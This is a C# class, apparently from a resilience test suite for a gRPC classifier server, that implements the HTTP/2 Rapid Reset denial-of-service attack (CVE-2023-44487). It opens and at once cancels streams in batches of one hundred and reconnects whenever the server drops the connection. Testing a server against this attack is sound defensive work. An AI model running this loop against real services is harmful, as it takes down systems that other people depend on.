using System.Net.Sockets;
using Classifier.Trials.Servers;

namespace Classifier.Trials.Crowd;

/// <summary>Calls that are cancelled as soon as they are begun, as fast as the connection takes them (CVE-2023-44487); a connection the server ends is opened anew.</summary>
internal sealed class RapidResets(Uri address)
{
    private const string Path = "/classifier.v1.DocumentClassifier/Classify";
    private const int Streams = 100;

    private long _resets;
    private int _ended;

    /// <summary>Calls begun and reset.</summary>
    public long Resets => _resets;

    /// <summary>Connections that the server ended.</summary>
    public int Ended => _ended;

    /// <summary>Goes on until it is stopped.</summary>
    public async Task RunAsync(CancellationToken stop)
    {
        while (!stop.IsCancellationRequested)
        {
            try
            {
                await UntilEndedAsync(stop);
            }
            catch (OperationCanceledException)
            {
                return;
            }
            catch (SocketException)
            {
                Interlocked.Increment(ref _ended);
            }
        }
    }

    private async Task UntilEndedAsync(CancellationToken stop)
    {
        using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp);
        await socket.ConnectAsync(address.Host, address.Port, stop);
        await socket.SendAsync(Http2Wire.Opening, stop);
        var reading = ReadAsync(socket, stop);
        for (var stream = 1; stream < int.MaxValue - (2 * Streams) && !reading.IsCompleted; stream += 2 * Streams)
        {
            await socket.SendAsync(Enumerable.Range(0, Streams).Select(i => stream + (2 * i)).SelectMany(id => Http2Wire.Call(id, Path).Concat(Http2Wire.Cancel(id))).ToArray(), stop);
            Interlocked.Add(ref _resets, Streams);
        }

        await reading;
        Interlocked.Increment(ref _ended);
    }

    /// <summary>Takes what the server says until it ends the connection.</summary>
    private static async Task ReadAsync(Socket socket, CancellationToken stop)
    {
        var buffer = new byte[65536];
        while (await socket.ReceiveAsync(buffer, stop) > 0)
        {
        }
    }
}
